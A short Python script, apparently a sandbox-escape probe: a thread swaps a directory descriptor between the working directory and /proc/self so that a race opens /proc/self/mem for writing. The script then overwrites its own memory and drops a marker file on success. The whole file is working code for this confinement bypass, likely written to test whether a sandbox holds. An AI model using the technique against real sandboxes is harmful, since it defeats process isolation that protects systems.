# a directory's descriptor that a thread replaces: it has a harmless `mem`, or it is /proc/self
import os, sys, threading, time
m = sys.argv[1]; end = time.time() + float(os.environ.get("ESCAPE_SECONDS", "2")); b = b"AAAAAAAAAAAAAAAA" + os.urandom(16)
open("mem", "w").close(); one, other = os.open(".", os.O_RDONLY), os.open("/proc/self", os.O_RDONLY); slot = os.dup(one)
def flip():
    while time.time() < end and not os.path.exists(m): os.dup2(other, slot); os.dup2(one, slot)
thread = threading.Thread(target=flip); thread.start()
while time.time() < end and not os.path.exists(m):
    try: f = os.open("mem", os.O_RDWR, dir_fd=slot)
    except OSError as e: last = e; continue
    if not os.fstat(f).st_mode & 0o100 and os.readlink("/proc/self/fd/%d" % f).startswith("/proc"):
        os.pwrite(f, b"BBBB", id(b) + bytes.__basicsize__ - 1)
        if b.startswith(b"BBBBAAAA"): open(m, "w").close()
    os.close(f)
thread.join(); sys.exit(not os.path.exists(m))
